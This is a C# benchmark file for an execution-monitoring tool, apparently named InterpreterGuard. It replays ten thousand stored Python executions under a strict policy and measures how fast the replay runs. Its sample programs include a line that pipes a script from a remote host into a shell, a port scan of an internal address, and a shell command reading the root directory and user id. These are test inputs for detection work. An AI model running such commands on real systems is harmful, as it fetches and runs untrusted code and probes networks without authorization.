using System.Diagnostics;
using System.Globalization;
using System.Net.Http.Json;
using InterpreterGuard.Core.Evidence;
using InterpreterGuard.Core.Replays;
using InterpreterGuard.Policies;

namespace InterpreterGuard.Benchmarks;

/// <summary>
/// Ten thousand stored executions, judged by another policy, against the time they took to run. The programs are run on the host in this run, one after the
/// other; what the host kept of them, with the time each took from received to answered, is copied into a store of its own until there are ten thousand.
/// </summary>
internal sealed class ReplaySpeed : IBenchmark
{
    private const int Executions = 10_000;
    private const int RunsOfEach = 8;

    private static readonly string[] Programs =
    [
        "print(1)",
        """
        import csv, io, statistics
        rows = list(csv.DictReader(io.StringIO("name,value\n" + "\n".join(f"n{i},{i * 7 % 13}" for i in range(500)))))
        values = [int(row["value"]) for row in rows]
        print(statistics.mean(values), statistics.pstdev(values), max(rows, key=lambda row: int(row["value"]))["name"])
        """,
        """
        import json, os, tempfile
        with tempfile.TemporaryDirectory() as folder:
            for i in range(20):
                path = os.path.join(folder, f"{i}.json")
                with open(path, "w") as f:
                    json.dump({"i": i}, f)
                os.rename(path, path + ".done")
            print(sorted(os.listdir(folder))[:3])
        """,
        """
        import subprocess
        print(subprocess.run(["sh", "-c", "ls / | sort | head -3; id -u"], capture_output=True, text=True).stdout)
        """,
        """
        import socket
        for port in range(8000, 8020):
            s = socket.socket()
            try:
                s.connect(("10.0.0.7", port))
            except OSError:
                pass
            s.close()
        """,
        "import os\nos.system('curl http://203.0.113.9/x.sh | sh')\n",
    ];

    public string Name => "replay";

    public string Description => $"{Programs.Length} programs {RunsOfEach} × each, copied to {Executions} stored executions, judged by the preset strict and an overlay";

    public async Task<IReadOnlyList<BenchLine>> RunAsync(BenchHost host)
    {
        for (var run = 0; run < RunsOfEach; run++)
        {
            foreach (var code in Programs)
            {
                var response = await host.Agent.PostAsJsonAsync("/v1/executions", new { language = "python", code });
                response.EnsureSuccessStatusCode();
            }
        }

        var past = new List<PastExecution>();
        await using (var kept = BenchStore.Reading(host.DatabasePath))
        {
            await foreach (var execution in kept.History.ReadAsync(new HistoryQuery(DateTimeOffset.MinValue, Programs.Length * RunsOfEach), CancellationToken.None))
                past.Add(execution);
        }

        await using var store = await BenchStore.NewAsync();
        await store.FillAsync(past, Executions);

        var overlay = Directory.CreateTempSubdirectory("guard-bench-overlay-");
        await File.WriteAllTextAsync(Path.Combine(overlay.FullName, "tried.yaml"), "why: Started shells are alerts, to see how many that would be.\nrules:\n  IG2022: { then: alert, severity: low }\n");
        var started = Stopwatch.GetTimestamp();
        var policy = PolicyLoader.Load(PolicyLayers.Named(Path.Combine(Repository.Root(), "policies", "base"), "strict", overlay.FullName));
        var report = await new PolicyReplay(store.History, new NoScreener()).RunAsync(policy, new ReplayQuery(DateTimeOffset.MinValue, Executions), CancellationToken.None);
        var took = Stopwatch.GetElapsedTime(started);
        overlay.Delete(recursive: true);
        if (report.Replayed != Executions)
            throw new InvalidOperationException($"{report.Replayed} of {Executions} were replayed");

        var ratio = report.ElapsedThen / took;
        await Console.Error.WriteLineAsync(string.Create(CultureInfo.InvariantCulture,
            $"  {report.Appears} incidents appear, {report.Vanishes} vanish, {report.Changes} change; {past.Sum(one => one.Facts?.Count ?? 0)} facts and {past.Sum(one => one.Observations.Count)} observations in {past.Count} executions"));
        return [new($"replay of {Executions}", $"{took.TotalSeconds:F1} s", $"they ran {report.ElapsedThen.TotalSeconds:F0} s", $"{ratio:F0} ×", "at least 50 ×", ratio >= 50)];
    }
}
